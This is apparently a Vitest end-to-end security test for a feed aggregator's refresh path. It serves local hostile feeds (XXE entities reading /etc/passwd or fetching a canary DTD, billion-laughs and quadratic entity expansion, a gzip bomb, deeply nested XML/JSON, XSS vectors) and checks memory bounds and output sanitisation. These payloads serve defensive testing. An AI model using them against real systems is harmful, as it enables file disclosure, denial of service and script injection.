// Issue 7, hostile documents: each one served by a real upstream socket to a source that worked
// until then, and refreshed through the API. For each: the API answers (the process is up), the
// peak RSS above the RSS before stays under RSS_BOUND, a healthy source refreshes fine right after,
// and at the end the published feeds (Atom, RSS, JSON) carry no active content.
// The parser-level cases are in test/parse/parse-feed.test.ts and the fetch caps in
// test/fetch/limits.test.ts; this file runs the same attacks end to end, with memory measured.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PUBLIC_URL } from '../helpers/app.js';
import {
  readFixture,
  repeatBody,
  serveBody,
  startUpstream,
  type StreamStats,
  type Upstream,
  type UpstreamHandler,
} from '../helpers/upstream.js';
import { startHostileApp, type HostileApp } from './harness.js';
import { XSS_VECTORS, fieldValuesOfJson, fieldValuesOfXml, findActiveContent } from './xss-vectors.js';

const MIB = 1024 * 1024;
/** Peak RSS above the RSS before one document, stated in SECURITY.md (measured peak is printed). */
const RSS_BOUND = 384 * MIB;

const escapeXml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const rss = (items: string, head = '') =>
  `<?xml version="1.0" encoding="utf-8"?>${head}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>hostile</title><link>https://hostile.example/</link>${items}</channel></rss>`;
const BENIGN = rss('<item><guid>benign-1</guid><title>benign</title><link>https://hostile.example/1</link></item>');

function xssRss(): string {
  return rss(
    XSS_VECTORS.map(
      (vector, index) =>
        `<item><guid>xss-rss-${index}</guid><title>${escapeXml(vector)}</title><link>${escapeXml(vector)}</link>` +
        `<description>${escapeXml(vector)}</description><content:encoded>${escapeXml(`<p>ok ${index}</p>${vector}`)}</content:encoded>` +
        `<enclosure url="${escapeXml(vector)}" type="audio/mpeg" length="1"/><author>${escapeXml(vector)}</author><category>${escapeXml(vector)}</category></item>`,
    ).join(''),
  );
}

function xssAtom(): string {
  const entries = XSS_VECTORS.map(
    (vector, index) =>
      `<entry><id>urn:xss:atom:${index}</id><title type="html">${escapeXml(vector)}</title><updated>2024-01-01T00:00:00Z</updated>` +
      `<link rel="alternate" href="${escapeXml(vector)}"/><author><name>${escapeXml(vector)}</name><uri>${escapeXml(vector)}</uri></author>` +
      `<summary type="html">${escapeXml(vector)}</summary><content type="html">${escapeXml(`<p>ok ${index}</p>${vector}`)}</content></entry>`,
  ).join('');
  const xhtml = `<entry><id>urn:xss:xhtml</id><title>xhtml</title><updated>2024-01-01T00:00:00Z</updated><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><a href="javascript:alert(1)" onclick="alert(1)">x</a><img src="x" onerror="alert(1)"/></div></content></entry>`;
  return `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><id>urn:xss</id><title>xss</title><updated>2024-01-01T00:00:00Z</updated>${entries}${xhtml}</feed>`;
}

function xssJson(): string {
  return JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title: 'xss json',
    home_page_url: 'javascript:alert(1)',
    items: XSS_VECTORS.map((vector, index) => ({
      id: `xss-json-${index}`,
      url: vector,
      title: vector,
      summary: vector,
      content_html: `<p>ok ${index}</p>${vector}`,
      image: vector,
      tags: [vector],
      authors: [{ name: vector, url: vector }],
      attachments: [{ url: vector, mime_type: 'audio/mpeg' }],
    })),
  });
}

interface HostileDocument {
  name: string;
  handler: (canary: string) => UpstreamHandler;
  /** The source's status after the refresh: failed documents leave the last good entries. */
  outcome: 'ok' | 'failed';
  /** The error code a failed refresh must record. */
  code?: string;
}

const gzipStats: StreamStats = { bytesSent: 0, finished: false };
const streamStats: StreamStats = { bytesSent: 0, finished: false };

const DOCUMENTS: HostileDocument[] = [
  { name: 'billion laughs', handler: () => serveBody(readFixture('feeds/billion-laughs.xml')), outcome: 'failed', code: 'FP_NOT_A_FEED' },
  {
    name: 'quadratic blowup',
    handler: () =>
      serveBody(
        rss(`<item><guid>q</guid><title>${'&a;'.repeat(100_000)}</title></item>`, `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(100_000)}">]>`),
      ),
    outcome: 'failed',
    code: 'FP_NOT_A_FEED',
  },
  {
    name: 'XXE file',
    handler: () =>
      serveBody(rss('<item><guid>x</guid><title>&xxe;</title></item>', '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
    outcome: 'failed',
    code: 'FP_NOT_A_FEED',
  },
  {
    name: 'XXE http and parameter entity',
    handler: (canary) =>
      serveBody(
        rss(
          '<item><guid>x</guid><title>&xxe;</title></item>',
          `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "${canary}/evil.dtd"> %remote; <!ENTITY xxe SYSTEM "${canary}/secret">]>`,
        ),
      ),
    outcome: 'failed',
    code: 'FP_NOT_A_FEED',
  },
  {
    name: 'external DTD only',
    // Read without the DTD: the parser never fetches one, the unknown entity stays text.
    handler: (canary) =>
      serveBody(rss('<item><guid>x</guid><title>&undefined;</title></item>', `<!DOCTYPE rss SYSTEM "${canary}/evil.dtd">`)),
    outcome: 'ok',
  },
  {
    name: '100k-deep XML',
    handler: () => serveBody(rss(`<item><guid>d</guid>${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}</item>`)),
    outcome: 'failed',
    code: 'FP_NOT_A_FEED',
  },
  {
    name: '100k-deep JSON',
    handler: () =>
      serveBody(
        `{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{"id":"1","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`,
        { contentType: 'application/feed+json' },
      ),
    outcome: 'ok',
  },
  {
    name: '100k-deep HTML in content',
    handler: () =>
      serveBody(
        rss(`<item><guid>h</guid><title>deep html</title><description>${escapeXml(`${'<div>'.repeat(100_000)}deep`)}</description></item>`),
      ),
    outcome: 'ok',
  },
  {
    name: '1 GiB streamed body',
    handler: () => repeatBody(Buffer.alloc(64 * 1024, 'x'), 16 * 1024, { 'content-type': 'application/rss+xml' }, streamStats),
    outcome: 'failed',
    code: 'FP_UPSTREAM_TOO_LARGE',
  },
  {
    // Concatenated gzip members are one gzip stream (RFC 1952 §2.2): ~10 MB on the wire, 10 GiB decoded.
    name: 'gzip bomb 10 MB → 10 GiB',
    handler: () => {
      const member = zlib.gzipSync(Buffer.alloc(16 * MIB), { level: 9 });
      return repeatBody(member, 640, { 'content-type': 'application/rss+xml', 'content-encoding': 'gzip' }, gzipStats);
    },
    outcome: 'failed',
    code: 'FP_UPSTREAM_TOO_LARGE',
  },
  {
    name: 'invalid UTF-8',
    handler: () =>
      serveBody(
        Buffer.concat([
          Buffer.from('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>bad '),
          Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xe2, 0x82]),
          Buffer.from('</title><item><guid>u</guid><title>bytes '),
          Buffer.from([0x80, 0xbf, 0xc3, 0x28, 0xf0, 0x28, 0x8c, 0xbc]),
          Buffer.from('</title></item></channel></rss>'),
        ]),
        { contentType: 'application/rss+xml; charset=utf-8' },
      ),
    outcome: 'ok',
  },
  {
    name: '200k-entry feed',
    handler: () =>
      serveBody(rss(Array.from({ length: 200_000 }, (_, index) => `<item><guid>${index}</guid><title>${index}</title></item>`).join(''))),
    outcome: 'ok',
  },
  {
    name: 'megabyte attribute values',
    handler: () => {
      const huge = 'A'.repeat(MIB);
      return serveBody(
        `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" data-x="${huge}"><id>urn:big</id><title>big</title><updated>2024-01-01T00:00:00Z</updated>` +
          `<entry xml:base="https://big.example/${huge}"><id>urn:big:1</id><title type="html" data-y="${huge}">big</title><updated>2024-01-01T00:00:00Z</updated>` +
          `<link rel="alternate" href="https://big.example/${huge}"/><link rel="enclosure" href="https://big.example/${huge}.mp3" type="audio/mpeg" length="${huge}"/></entry></feed>`,
      );
    },
    outcome: 'ok',
  },
  { name: 'OWASP XSS vectors (RSS)', handler: () => serveBody(xssRss(), { contentType: 'application/rss+xml' }), outcome: 'ok' },
  { name: 'OWASP XSS vectors (Atom)', handler: () => serveBody(xssAtom()), outcome: 'ok' },
  { name: 'OWASP XSS vectors (JSON Feed)', handler: () => serveBody(xssJson(), { contentType: 'application/feed+json' }), outcome: 'ok' },
];

describe('hostile documents through the refresh path', () => {
  let upstream: Upstream;
  let canary: Server;
  let canaryUrl = '';
  let canaryHits = 0;
  let t: HostileApp;
  let key: string;
  let healthyId = '';
  let healthyVersion = 0;
  const sourceIds: string[] = [];
  const peaks: Array<[string, number]> = [];

  beforeAll(async () => {
    canary = createServer((_request, response) => {
      canaryHits += 1;
      response.end('<!ENTITY leaked "CANARY-CONTENT">');
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    upstream = await startUpstream({
      '/healthy': (request, response) => {
        healthyVersion += 1;
        serveBody(
          rss(
            `<item><guid>healthy-${healthyVersion}</guid><title>healthy ${healthyVersion}</title><link>https://healthy.example/${healthyVersion}</link></item>`,
          ),
        )(request, response);
      },
    });
    t = await startHostileApp({}, { allowPrivate: [upstream.hostPort] });
    key = await t.createUserKey();
    const healthy = await t.api(key, { method: 'POST', url: '/api/v1/sources', payload: { url: upstream.url('/healthy') } });
    healthyId = healthy.json().id as string;
  });
  afterAll(async () => {
    await t?.close();
    await upstream?.close();
    await new Promise((resolve) => canary?.close(resolve));
    const worst = peaks.reduce((max, [, peak]) => Math.max(max, peak), 0);
    console.info(
      `documents: ${peaks.length} tried; peak RSS growth per document (MiB): ${peaks.map(([name, peak]) => `${name}=${(peak / MIB).toFixed(0)}`).join(', ')}; worst ${(worst / MIB).toFixed(0)} MiB`,
    );
  });

  it.each(DOCUMENTS)(
    '$name: the API answers, memory stays bounded, a healthy source refreshes after',
    { timeout: 60_000 },
    async (document) => {
      const path = `/doc/${sourceIds.length}`;
      upstream.route(path, serveBody(BENIGN, { contentType: 'application/rss+xml' }));
      const created = await t.api(key, { method: 'POST', url: '/api/v1/sources', payload: { url: upstream.url(path) } });
      expect(created.statusCode).toBe(201);
      const id = created.json().id as string;
      sourceIds.push(id);
      upstream.route(path, document.handler(canaryUrl));

      const before = process.memoryUsage().rss;
      const refreshed = await t.api(key, { method: 'POST', url: `/api/v1/sources/${id}/refresh` });
      const peak = process.resourceUsage().maxRSS * 1024 - before;
      peaks.push([document.name, Math.max(0, peak)]);

      expect(refreshed.statusCode).toBe(200);
      const source = await t.deps.registry.getSource(id);
      if (document.outcome === 'ok') expect(source?.status, source?.lastError).toBe('ok');
      else {
        expect(['stale', 'failing']).toContain(source?.status);
        expect(source?.lastErrorCode).toBe(document.code);
        // The last good entries stay published.
        expect(source?.entryCount).toBe(1);
      }
      expect(peak).toBeLessThan(RSS_BOUND);

      const healthy = await t.api(key, { method: 'POST', url: `/api/v1/sources/${healthyId}/refresh` });
      expect(healthy.json()).toMatchObject({ status: 'ok', lastError: null });
    },
  );

  it('read no file, fetched no entity, and stopped the endless bodies early', () => {
    expect(canaryHits).toBe(0);
    expect(streamStats.finished).toBe(false);
    expect(gzipStats.finished).toBe(false);
    // Stopped near the 16 MiB cap, not at 1 GiB (socket buffers let a few MiB more through).
    expect(streamStats.bytesSent).toBeLessThan(128 * MIB);
  });

  it('publishes every source merged with no active content in any format', async () => {
    const feed = await t.api(key, {
      method: 'POST',
      url: '/api/v1/feeds',
      payload: { title: 'Everything hostile', sources: [healthyId, ...sourceIds], limit: 500 },
    });
    expect(feed.statusCode).toBe(201);
    const { atom, rss, json } = feed.json().urls as Record<'atom' | 'rss' | 'json', string>;
    for (const [format, url] of Object.entries({ atom, rss, json })) {
      const published = await t.app.inject({ method: 'GET', url: url.slice(PUBLIC_URL.length) });
      expect(published.statusCode).toBe(200);
      const values = format === 'json' ? fieldValuesOfJson(published.body) : fieldValuesOfXml(published.body);
      // The XSS sources made it in (their harmless parts survive)…
      expect(values).toContain('ok 3');
      expect(values).not.toMatch(/passwd|root:|CANARY-CONTENT/);
      // …and nothing in them can run.
      expect(findActiveContent(values), format).toBeUndefined();
    }
  });
});
